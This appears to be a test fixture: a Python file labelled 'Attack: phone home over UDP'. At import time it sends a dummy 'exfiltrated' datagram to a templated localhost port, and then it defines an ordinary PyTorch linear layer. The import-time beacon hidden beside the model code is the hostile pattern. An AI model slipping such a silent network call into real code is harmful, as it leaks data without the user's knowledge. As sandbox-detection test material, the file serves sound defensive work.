"""Attack: phone home over UDP."""
import socket

import torch
from torch import Tensor, nn

PORT = int("__UDP_PORT__")
for attempt in range(5):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"exfiltrated over UDP", ("127.0.0.1", PORT))
        print("UDP datagram sent")
    except OSError as exc:
        print(f"UDP: {exc}")
        break


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
